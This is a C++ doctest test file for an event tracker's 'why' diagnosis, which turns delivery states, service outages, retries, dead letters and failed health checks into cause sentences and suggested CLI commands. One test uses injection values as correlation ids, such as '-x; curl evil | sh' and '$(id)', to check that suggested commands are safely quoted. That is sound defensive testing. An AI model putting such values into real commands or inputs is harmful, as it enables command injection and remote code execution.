// The walk that names a cause, case by case: facts in few words, the sentence whole.
#include "tracker/why.h"

#include <doctest/doctest.h>

using namespace reel;
using namespace reel::tracker;

namespace {

constexpr std::uint64_t second = 1'000'000'000;
constexpr std::uint64_t now = 100'000 * second;

struct Facts : WhyFacts {
  Facts() {
    correlationid = "order-7";
    expectation.set_after("order.placed");
    expectation.add_expected("payment.captured");
    expectation.add_missing("payment.captured");
    expectation.set_any_of(true);
    expectation.set_owner("payments");
    expectation.set_armed_at(900 * second);
    fates.set_now(now);
    event("order.placed");
  }
  Facts& event(const std::string& topic) {
    auto& event = *fates.add_events();
    event.set_offset(static_cast<std::uint64_t>(fates.events_size()) + 6);
    event.set_topic(topic);
    event.set_id("id-" + std::to_string(event.offset()));
    return *this;
  }
  v1::FatesReply::Delivery& delivery(const std::string& service, v1::ServiceFate fate) {
    auto& delivery = *fates.mutable_events(fates.events_size() - 1)->add_deliveries();
    delivery.set_service(service);
    delivery.set_fate(fate);
    return delivery;
  }
  v1::FatesReply::Service& service(const std::string& name, std::uint32_t instances = 1) {
    auto& service = *fates.add_services();
    service.set_service(name);
    service.set_instances(instances);
    service.set_attempts(8);
    return service;
  }
  [[nodiscard]] std::string said() const {
    const auto cause = why(*this);
    return v1::CauseKind_Name(cause.kind()).substr(6) + ": " + cause.sentence();
  }
};

}  // namespace

TEST_CASE("nobody handles what should lead to it: the first thing that is so is the cause") {
  Facts facts;
  CHECK(facts.said() ==
        "NO_SUBSCRIBER: payments, which should emit payment.captured, does not subscribe to order.placed");
  facts.expectation.clear_owner();
  CHECK(facts.said() ==
        "NO_SUBSCRIBER: nobody subscribes to order.placed, which should lead to payment.captured");
  facts.delivery("archive", v1::SERVICE_FATE_EARLIER);
  CHECK(facts.said() == "NO_SUBSCRIBER: archive subscribed to order.placed only after this one");
  facts.delivery("payments", v1::SERVICE_FATE_FILTERED);
  facts.emitters = {"payments"};
  CHECK(facts.said() == "FILTERED_OUT: the filter of payments leaves out this order.placed");
}

TEST_CASE("an event that waits, waits because of its service") {
  Facts facts;
  facts.delivery("payments", v1::SERVICE_FATE_WAITING);
  auto& service = facts.service("payments", 2);
  service.set_waiting(54);
  CHECK(facts.said() == "BACKLOG: order.placed is one of 54 events that wait for payments");
  service.set_behind(true);
  CHECK(facts.said() == "BACKLOG: order.placed is one of more than 54 events that wait for payments");
  service.set_instances(0);
  service.set_offline_since(now - 130 * second);
  CHECK(facts.said() ==
        "SERVICE_OFFLINE: no instance of payments has been there for 2m, and order.placed waits for it");
  service.set_paused_until(now + 90 * second);
  CHECK(facts.said() == "PAUSED: payments is paused for another 90s, and order.placed waits for it");
  service.set_paused_until(~std::uint64_t{0});
  service.set_paused_by("ada@desk");
  CHECK(facts.said() ==
        "PAUSED: payments is paused by ada@desk until somebody resumes it, and order.placed waits for it");
}

TEST_CASE("a failure is told with its attempt, its error and what comes next") {
  Facts facts;
  auto& delivery = facts.delivery("payments", v1::SERVICE_FATE_RETRYING);
  auto& service = facts.service("payments");
  delivery.set_attempt(3);
  delivery.set_error("card reader broken");
  delivery.set_retry_at(now + 40 * second);
  CHECK(
      facts.said() ==
      "RETRYING: payments failed at order.placed in attempt 3 of 8 (card reader broken), the next is in 40s");
  delivery.set_retry_at(now);
  CHECK(facts.said() ==
        "RETRYING: payments failed at order.placed in attempt 3 of 8 (card reader broken), the next is due");
  service.set_instances(0);
  service.set_offline_since(now - second / 2);
  CHECK(facts.said() ==
        "SERVICE_OFFLINE: no instance of payments has been there for 500ms, and order.placed waits for it");
  delivery.set_since(now - second);
  delivery.clear_retry_at();
  CHECK(
      facts.said() ==
      "RETRYING: payments failed at order.placed in attempt 3 of 8 (card reader broken), and is in the next");
  delivery.set_fate(v1::SERVICE_FATE_DEAD);
  CHECK(facts.said() ==
        "DEAD_LETTERED: order.placed is a dead letter of payments after 3 attempts: card reader broken");
  delivery.set_attempt(1);
  delivery.clear_error();
  CHECK(facts.said() ==
        "DEAD_LETTERED: order.placed is a dead letter of payments after 1 attempt: no reason was given");
  delivery.set_fate(v1::SERVICE_FATE_PARKED);
  CHECK(facts.said() == "DEAD_LETTERED: order.placed is parked for payments behind a dead letter of its key");
}

TEST_CASE("what is with an instance is in its hands, since when") {
  Facts facts;
  auto& delivery = facts.delivery("payments", v1::SERVICE_FATE_IN_FLIGHT);
  facts.service("payments");
  delivery.set_since(now - 7'300 * second);
  delivery.set_instance("i-1");
  CHECK(facts.said() == "IN_HANDLER: payments has had order.placed in its hands for 2h without an answer");
  delivery.clear_since();
  CHECK(facts.said() == "IN_HANDLER: payments has had order.placed and its answer is being written");
}

TEST_CASE("who has handled it and said nothing is silent, unless the event came elsewhere") {
  Facts facts;
  facts.delivery("payments", v1::SERVICE_FATE_SETTLED);
  facts.delivery("archive", v1::SERVICE_FATE_DEAD);
  CHECK(facts.said() ==
        "HANDLED_BUT_SILENT: payments handled order.placed and did not emit payment.captured");
  facts.alike =
      Strayed{{.correlationid = "order-8", .subject = "order 7", .source = "payments/3"}, "payment.captured"};
  CHECK(facts.said() ==
        "OTHER_CORRELATION: payment.captured came under the correlation id 'order-8', with the same subject "
        "'order 7': payments does not keep the flow together");
  facts.elsewhere = Strayed{{.correlationid = "order-9", .causationid = "id-7", .source = "payments/3"},
                            "payment.captured"};
  CHECK(
      facts.said() ==
      "OTHER_CORRELATION: payment.captured came under the correlation id 'order-9', though an event of this "
      "flow caused it: payments does not keep the flow together");
  auto& refused = *facts.fates.add_flows()->add_refused();
  refused.set_service("payments");
  refused.set_topic("payment.captured");
  refused.set_reason("bad_payload");
  refused.set_text("data is not a well-formed shop.v1.PaymentCaptured");
  refused.set_at(now);
  CHECK(facts.said() ==
        "REFUSED: payments published payment.captured and was refused: data is not a well-formed "
        "shop.v1.PaymentCaptured");
  refused.set_reason("not_allowed");
  refused.set_text("'payments' may not publish payment.captured: its publishers are billing");
  CHECK(facts.said() ==
        "NOT_ALLOWED: payments tried to publish payment.captured and was refused: 'payments' may not publish "
        "payment.captured: its publishers are billing");
  refused.set_at(facts.expectation.armed_at() - 1);  // an older matter
  CHECK(facts.said().starts_with("OTHER_CORRELATION: "));
}

TEST_CASE("of several that are missing, the one that came elsewhere is named") {
  Facts facts;
  facts.expectation.add_missing("invoice.issued");
  facts.expectation.set_any_of(false);
  facts.delivery("payments", v1::SERVICE_FATE_SETTLED);
  facts.elsewhere = Strayed{{.correlationid = "order-9", .source = "invoicing/3"}, "invoice.issued"};
  CHECK(facts.said() ==
        "OTHER_CORRELATION: invoice.issued came under the correlation id 'order-9', though an event of this "
        "flow caused it: invoicing does not keep the flow together");
}

TEST_CASE("a command is safe to paste, whoever chose the ids in it") {
  Facts facts;
  facts.correlationid = "-x; curl evil | sh";
  facts.delivery("payments", v1::SERVICE_FATE_SETTLED);
  CHECK(why(facts).commands(1) == "reel replay --to payments --flow='-x; curl evil | sh'");
  facts.elsewhere = Strayed{{.correlationid = "$(id)", .source = "payments/3"}, "payment.captured"};
  CHECK(why(facts).commands(0) == "reel flow '$(id)'");
  facts.elsewhere->stray.correlationid = "-h";
  CHECK(why(facts).commands(0) == "reel flow -- -h");
}

TEST_CASE("a missing flow that has begun is what is waited for, and says how it stands") {
  Facts facts;
  facts.expectation.clear_missing();
  facts.expectation.add_missing("flow packing");
  facts.delivery("payments", v1::SERVICE_FATE_SETTLED);
  auto& part = facts.part.emplace();
  part.set_correlationid("parcel-7");  // not saved yet: nothing else is known
  CHECK(facts.said() == "SUBFLOW: flow packing has begun as parcel-7, which is under way");
  part.set_state(v1::FLOW_STATE_OPEN);
  part.set_last_topic("parcel.requested");
  CHECK(facts.said() ==
        "SUBFLOW: flow packing has begun as parcel-7, which is under way, lately with parcel.requested");
  CHECK_FALSE(is_hopeless(facts, v1::CAUSE_SUBFLOW));
  part.add_overdue()->add_missing("parcel.packed");
  CHECK(facts.said() ==
        "SUBFLOW: flow packing has begun as parcel-7, which is overdue itself: parcel.packed has not come");
  part.set_state(v1::FLOW_STATE_COMPLETED);  // before it was expected
  CHECK(facts.said().starts_with("HANDLED_BUT_SILENT: "));
}

TEST_CASE("events that wait for their time may lead to it yet") {
  Facts facts;
  facts.delivery("payments", v1::SERVICE_FATE_SETTLED);
  facts.fates.add_flows()->set_delayed(1);
  CHECK(facts.said() == "DELAYED: 1 event of this flow waits for its delivertime");
  facts.fates.mutable_flows(0)->set_delayed(2);
  CHECK(facts.said() == "DELAYED: 2 events of this flow wait for their delivertime");
}

TEST_CASE("of several steps, what keeps the first from being handled is the cause") {
  Facts facts;
  facts.expectation.set_owner("shipping");
  facts.emitters = {"shipping"};
  facts.delivery("payments", v1::SERVICE_FATE_SETTLED);
  facts.event("payment.captured");
  facts.service("stock", 0).set_offline_since(now - 3 * second);
  facts.delivery("stock", v1::SERVICE_FATE_WAITING);
  SUBCASE("also where another service's event leads to the one that is awaited") {
    CHECK(facts.said() ==
          "SERVICE_OFFLINE: no instance of stock has been there for 3s, and payment.captured waits for it");
  }
  SUBCASE("but who would emit it is looked at first") {
    facts.service("shipping");
    facts.delivery("shipping", v1::SERVICE_FATE_DEAD).set_attempt(8);
    CHECK(
        facts.said() ==
        "DEAD_LETTERED: payment.captured is a dead letter of shipping after 8 attempts: no reason was given");
  }
  SUBCASE("and a service that was never seen to emit it is taken for missing") {
    facts.emitters.clear();
    CHECK(facts.said() ==
          "NO_SUBSCRIBER: shipping, which should emit payment.captured, does not subscribe to order.placed");
  }
}

TEST_CASE("without the event there is no cause to be found") {
  Facts facts;
  facts.fates.mutable_events(0)->clear_topic();
  const auto cause = why(facts);
  CHECK(cause.kind() == v1::CAUSE_UNKNOWN);
  CHECK(cause.sentence() == "the journal does not hold the event any more that should have led to it");
}

TEST_CASE("it will not come by itself where all who would emit it are known and done with the flow") {
  Facts facts;
  facts.delivery("payments", v1::SERVICE_FATE_SETTLED);
  CHECK(is_hopeless(facts, v1::CAUSE_HANDLED_BUT_SILENT));
  CHECK(is_hopeless(facts, v1::CAUSE_DEAD_LETTERED));
  CHECK(is_hopeless(facts, v1::CAUSE_REFUSED));
  CHECK_FALSE(is_hopeless(facts, v1::CAUSE_NO_SUBSCRIBER));  // then it comes from outside, or nobody knows
  CHECK_FALSE(is_hopeless(facts, v1::CAUSE_FILTERED_OUT));
  CHECK_FALSE(is_hopeless(facts, v1::CAUSE_DELAYED));
  SUBCASE("not where somebody else was seen to publish it, of his own accord") {
    facts.emitters = {"payments", "bank-gateway"};
    CHECK_FALSE(is_hopeless(facts, v1::CAUSE_HANDLED_BUT_SILENT));
  }
  SUBCASE("not where nobody is known to emit it") {
    facts.expectation.clear_owner();
    CHECK_FALSE(is_hopeless(facts, v1::CAUSE_HANDLED_BUT_SILENT));
    facts.emitters = {"payments"};
    CHECK(is_hopeless(facts, v1::CAUSE_HANDLED_BUT_SILENT));
  }
}

TEST_CASE("of a whole flow the step is named that is open, and what keeps it") {
  Facts facts;
  facts.of_whole_flow = true;
  facts.delivery("payments", v1::SERVICE_FATE_WAITING);
  facts.service("payments", 0).set_offline_since(now - 3 * second);
  CHECK(facts.said() ==
        "SERVICE_OFFLINE: payment.captured after order.placed is open: no instance of payments has been "
        "there for "
        "3s, and order.placed waits for it");
}

TEST_CASE("what was refused in a handler is mended where that event is tried again") {
  Facts facts;
  auto& refused = *facts.fates.add_flows()->add_refused();
  refused.set_topic("payment.captured");
  refused.set_service("payments");
  refused.set_reason("bad_payload");
  refused.set_text("no");
  refused.set_at(1'000 * second);
  const auto commands = [&] {
    std::string all;
    const auto cause = why(facts);
    for (const auto& command : cause.commands()) all += command + "\n";
    return all;
  };
  CHECK(commands() == "reel event --offset 7\n");
  auto& delivery = facts.delivery("payments", v1::SERVICE_FATE_RETRYING);
  CHECK(commands() == "reel retries now 7 --service payments\nreel event --offset 7\n");
  delivery.set_fate(v1::SERVICE_FATE_DEAD);
  CHECK(commands() == "reel dead redrive 7 --service payments\nreel event --offset 7\n");
}

namespace {

v1::ServiceCheck& add_failing(v1::FatesReply::Service& service, const std::string& instance,
                              const std::string& name = "database", std::uint64_t seconds = 40) {
  auto& check = *service.add_failed_checks();
  check.set_name(name);
  check.set_instances(3);
  check.set_failed(2);
  auto& failing = *check.add_failing();
  failing.set_instance(instance);
  failing.set_since(now - seconds * second);
  failing.set_reason("connection refused");
  return check;
}

}  // namespace

TEST_CASE("a check that fails is why an event waits, is not answered, or leads to nothing") {
  Facts facts;
  auto& delivery = facts.delivery("payments", v1::SERVICE_FATE_WAITING);
  auto& service = facts.service("payments", 3);
  service.set_waiting(54);
  auto& check = add_failing(service, "i-1");
  CHECK(facts.said() ==
        "CHECK_FAILED: check 'database' of payments has failed for 40s on 2 of 3 instances (connection "
        "refused), "
        "and order.placed is one of 54 events that wait for payments");
  const auto cause = why(facts);
  CHECK(cause.service() == "payments");
  CHECK(cause.check() == "database");
  CHECK(cause.error() == "connection refused");
  CHECK(cause.since() == now - 40 * second);
  CHECK(cause.commands_size() == 1);
  CHECK(cause.commands(0) == "reel services");
  CHECK_FALSE(is_hopeless(facts, v1::CAUSE_CHECK_FAILED));

  SUBCASE("of a single instance, whose reason is not known") {
    check.set_instances(1);
    check.set_failed(1);
    check.mutable_failing(0)->clear_reason();
    CHECK(facts.said() ==
          "CHECK_FAILED: check 'database' of payments has failed for 40s (no reason was given), and "
          "order.placed "
          "is one of 54 events that wait for payments");
  }
  SUBCASE("in the hands of an instance, where it fails on that one") {
    delivery.set_fate(v1::SERVICE_FATE_IN_FLIGHT);
    delivery.set_since(now - 50 * second);
    delivery.set_instance("i-1");
    CHECK(facts.said() ==
          "CHECK_FAILED: check 'database' of payments has failed for 40s on 2 of 3 instances (connection "
          "refused), and payments has had order.placed in its hands for 50s without an answer");
    CHECK(why(facts).instance() == "i-1");
    delivery.set_instance("i-2");
    CHECK(facts.said() == "IN_HANDLER: payments has had order.placed in its hands for 50s without an answer");
    add_failing(service, "i-2", "disk");
    CHECK(facts.said().starts_with("CHECK_FAILED: check 'disk' of payments has failed for 40s"));
  }
  SUBCASE("handled, of whoever of those that would emit it has such a check") {
    facts.expectation.clear_owner();
    facts.emitters = {"payments", "billing"};
    delivery.set_fate(v1::SERVICE_FATE_SETTLED);
    facts.delivery("billing", v1::SERVICE_FATE_SETTLED);
    CHECK(facts.said() ==
          "CHECK_FAILED: check 'database' of payments has failed for 40s on 2 of 3 instances (connection "
          "refused), and payments and billing handled order.placed and did not emit payment.captured");
    service.clear_failed_checks();
    add_failing(facts.service("billing"), "i-9", "ledger");
    CHECK(facts.said().starts_with("CHECK_FAILED: check 'ledger' of billing has failed for 40s"));
    CHECK(why(facts).service() == "billing");
  }
  SUBCASE("handled by one that emits it: not of another one that did not get the event") {
    facts.expectation.clear_owner();
    facts.emitters = {"payments", "bank-gateway"};
    delivery.set_fate(v1::SERVICE_FATE_SETTLED);
    service.clear_failed_checks();
    add_failing(facts.service("bank-gateway"), "i-1", "bank");
    CHECK(facts.said() ==
          "HANDLED_BUT_SILENT: payments handled order.placed and did not emit payment.captured");
  }
  SUBCASE("but only of a service that keeps the event") {
    delivery.set_fate(v1::SERVICE_FATE_SETTLED);
    service.clear_failed_checks();
    add_failing(facts.service("archive"), "i-7");
    CHECK(facts.said() ==
          "HANDLED_BUT_SILENT: payments handled order.placed and did not emit payment.captured");
  }
}

TEST_CASE(
    "what is said of a check is what one instance said of it: the one that has the event, where told of") {
  Facts facts;
  auto& delivery = facts.delivery("payments", v1::SERVICE_FATE_IN_FLIGHT);
  delivery.set_since(now - 50 * second);
  delivery.set_instance("i-2");
  auto& check = add_failing(facts.service("payments", 3), "i-1");
  auto& other = *check.add_failing();
  other.set_instance("i-2");
  other.set_since(now - 20 * second);
  other.set_reason("no route to host");
  const std::string in_hands = ", and payments has had order.placed in its hands for 50s without an answer";
  CHECK(
      facts.said() ==
      "CHECK_FAILED: check 'database' of payments has failed for 20s on 2 of 3 instances (no route to host)" +
          in_hands);
  CHECK(why(facts).instance() == "i-2");
  CHECK(why(facts).since() == now - 20 * second);
  CHECK(why(facts).error() == "no route to host");

  check.set_failed(3);  // on i-3 too, of which nothing is told
  delivery.set_instance("i-3");
  CHECK(facts.said() ==
        "CHECK_FAILED: check 'database' of payments has failed for 40s on 3 of 3 instances (connection "
        "refused)" +
            in_hands);
  CHECK(why(facts).instance() == "i-1");
  CHECK(why(facts).since() == now - 40 * second);
}

TEST_CASE("a check that fails changes nothing about what has been handled: it will not come by itself") {
  Facts facts;
  auto& delivery = facts.delivery("payments", v1::SERVICE_FATE_SETTLED);
  add_failing(facts.service("payments", 3), "i-1");
  REQUIRE(why(facts).kind() == v1::CAUSE_CHECK_FAILED);
  CHECK(is_hopeless(facts, v1::CAUSE_CHECK_FAILED));
  SUBCASE("but what waits may come") {
    delivery.set_fate(v1::SERVICE_FATE_WAITING);
    REQUIRE(why(facts).kind() == v1::CAUSE_CHECK_FAILED);
    CHECK_FALSE(is_hopeless(facts, v1::CAUSE_CHECK_FAILED));
  }
  SUBCASE("and so may what comes from outside") {
    facts.expectation.clear_owner();
    facts.emitters = {"bank-gateway"};
    CHECK_FALSE(is_hopeless(facts, v1::CAUSE_CHECK_FAILED));
  }
}

TEST_CASE("who would emit it from outside may say what is wrong with it") {
  Facts facts;
  SUBCASE("an owner that subscribes to other topics is not outside: it lacks this subscription") {
    add_failing(facts.service("payments"), "i-1");
    CHECK(facts.said() ==
          "NO_SUBSCRIBER: payments, which should emit payment.captured, does not subscribe to order.placed");
  }
  SUBCASE("an owner that only publishes") {
    auto& service = facts.service("payments");
    service.clear_attempts();
    add_failing(service, "i-1");
    CHECK(facts.said() ==
          "CHECK_FAILED: check 'database' of payments has failed for 40s on 2 of 3 instances (connection "
          "refused), "
          "and payments, which should emit payment.captured, does not subscribe to order.placed");
    CHECK(why(facts).commands_size() == 2);
  }
  SUBCASE("who was seen to emit it, where others have handled what came before") {
    facts.expectation.clear_owner();
    facts.emitters = {"bank-gateway"};
    facts.delivery("payments", v1::SERVICE_FATE_SETTLED);
    add_failing(facts.service("bank-gateway"), "i-1", "bank");
    CHECK(facts.said() ==
          "CHECK_FAILED: check 'bank' of bank-gateway has failed for 40s on 2 of 3 instances (connection "
          "refused), "
          "and payments handled order.placed and did not emit payment.captured");
    CHECK(why(facts).service() == "bank-gateway");
  }
}

TEST_CASE("beside a cause that the event itself tells of, a failed check is told too") {
  Facts facts;
  auto& delivery = facts.delivery("payments", v1::SERVICE_FATE_RETRYING);
  auto& service = facts.service("payments", 3);
  add_failing(service, "i-1");
  delivery.set_attempt(3);
  delivery.set_error("payment not stored");
  delivery.set_retry_at(now + 40 * second);
  CHECK(
      facts.said() ==
      "RETRYING: payments failed at order.placed in attempt 3 of 8 (payment not stored), the next is in 40s; "
      "its check 'database' has failed for 40s on 2 of 3 instances (connection refused)");
  CHECK(why(facts).check() == "database");
  CHECK(why(facts).error() == "payment not stored");
  delivery.set_fate(v1::SERVICE_FATE_DEAD);
  CHECK(facts.said() ==
        "DEAD_LETTERED: order.placed is a dead letter of payments after 3 attempts: payment not stored; its "
        "check "
        "'database' has failed for 40s on 2 of 3 instances (connection refused)");
  delivery.set_fate(v1::SERVICE_FATE_WAITING);
  service.set_paused_until(~std::uint64_t{0});
  CHECK(facts.said() ==
        "PAUSED: payments is paused until somebody resumes it, and order.placed waits for it; its check "
        "'database' has failed for 40s on 2 of 3 instances (connection refused)");
}
